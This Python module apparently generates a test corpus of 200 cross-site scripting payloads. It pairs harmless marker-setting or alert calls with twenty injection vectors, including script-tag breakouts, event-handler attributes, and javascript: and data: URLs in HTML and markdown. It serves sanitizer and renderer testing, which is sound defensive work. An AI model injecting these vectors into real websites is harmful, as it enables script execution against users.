"""Two hundred ways to have a script run where text is meant; each sets a mark or opens a dialog if it does."""

from __future__ import annotations

#: What is looked for on the page afterwards.
MARK = "__ran"
CALLS = (
    f"window.{MARK}=1",
    f"parent.{MARK}=1",
    f"top[&#39;{MARK}&#39;]=1",
    f"self['{MARK}']=1",
    f"eval('window.{MARK}=1')",
    f"Function('window.{MARK}=1')()",
    f"setTimeout('window.{MARK}=1')",
    f"import('data:text/javascript,window.{MARK}=1')",
    "alert(1)",
    "confirm`1`",
)
#: ``@`` stands for the call.
VECTORS = (
    "<script>@</script>",
    "</script><script>@</script>",
    '"><script>@</script>',
    "'></textarea></title><script>@</script>",
    '<img src=x onerror="@">',
    '<svg onload="@">',
    '<svg><animate onbegin="@" attributeName=x dur=1s>',
    '<iframe src="javascript:@"></iframe>',
    '<iframe srcdoc="<script>@</script>"></iframe>',
    '<object data="data:text/html,<script>@</script>"></object>',
    '<details open ontoggle="@">x</details>',
    '<video><source onerror="@"></video>',
    '<input autofocus onfocus="@">',
    '<a href="javascript:@">x</a>',
    '<form action="javascript:@"><button autofocus>x</button></form>',
    '<math><mtext><a xlink:href="javascript:@">x</a></mtext></math>',
    "[x](javascript:@)",
    "![x](javascript:@)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== '@')",
    '[x](https://x.example" onmouseover="@)',
)
PAYLOADS = tuple(vector.replace("@", call) for call in CALLS for vector in VECTORS)
